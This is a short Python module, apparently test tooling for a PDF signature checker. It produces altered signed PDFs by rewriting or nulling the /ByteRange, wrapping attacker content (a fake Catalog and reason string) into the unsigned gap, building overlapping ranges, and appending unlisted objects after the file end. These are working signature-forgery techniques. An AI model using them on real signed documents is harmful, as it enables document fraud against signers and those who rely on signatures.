"""Attacks on what the signed range says, and on the bytes around it."""

import re

RANGE = re.compile(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)\]( *)")


def with_range(data: bytes, *values: int) -> bytes:
    """The signed range rewritten, the file as long as before."""
    found = RANGE.search(data)
    assert found
    text = b"/ByteRange [%d %d %d %d]" % values
    assert len(text) <= len(found[0])
    return data[: found.start()] + text.ljust(len(found[0])) + data[found.end() :]


def range_of(data: bytes) -> tuple[int, int, int, int]:
    found = RANGE.search(data)
    assert found
    a, b, c, d = (int(v) for v in found.groups()[:4])
    return a, b, c, d


def wrapped(data: bytes) -> bytes:
    """Signature wrapping: the attacker's content in the room between the two signed parts."""
    _, first, second, _ = range_of(data)
    evil = b">/Reason(100 trieu)/Evil<</Type/Catalog>>"
    hole = data[first : second - len(evil)] + evil
    return data[:first] + hole + data[second:]


def overlapping(data: bytes) -> bytes:
    start, first, second, rest = range_of(data)
    return with_range(data, start, second + 10, first, rest + second - first)


def null_range(data: bytes) -> bytes:
    """Universal forgery in place."""
    found = RANGE.search(data)
    assert found
    return data[: found.start()] + b"/ByteRange null".ljust(len(found[0])) + data[found.end() :]


def after_the_end(data: bytes) -> bytes:
    return data + b"\n99 0 obj\n<</Type/Catalog>>\nendobj\n"


def without_table(data: bytes) -> bytes:
    """Incremental saving with a body and an end, and no cross-reference table that lists it."""
    return data + b"\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF\n"
